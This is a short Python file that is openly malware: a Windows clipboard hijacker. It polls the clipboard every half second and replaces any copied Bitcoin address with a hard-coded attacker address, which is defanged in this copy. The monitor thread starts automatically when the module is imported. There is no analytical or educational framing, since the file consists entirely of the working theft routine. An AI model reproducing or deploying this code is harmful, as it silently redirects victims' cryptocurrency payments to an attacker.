import ctypes
import re
import threading
import time

ATTACKER = "bc1qDEFANGEDDEFANGEDDEFANGEDDEFANGED00"
BTC = re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$")


def _get():
    u = ctypes.windll.user32
    u.OpenClipboard(0)
    h = u.GetClipboardData(13)
    text = ctypes.c_wchar_p(h).value
    u.CloseClipboard()
    return text


def _set(text):
    u = ctypes.windll.user32
    u.OpenClipboard(0)
    u.EmptyClipboard()
    u.SetClipboardData(13, ctypes.c_wchar_p(text))
    u.CloseClipboard()


def _watch():
    while True:
        cur = _get()
        if cur and BTC.match(cur) and cur != ATTACKER:
            _set(ATTACKER)
        time.sleep(0.5)


threading.Thread(target=_watch, daemon=True).start()
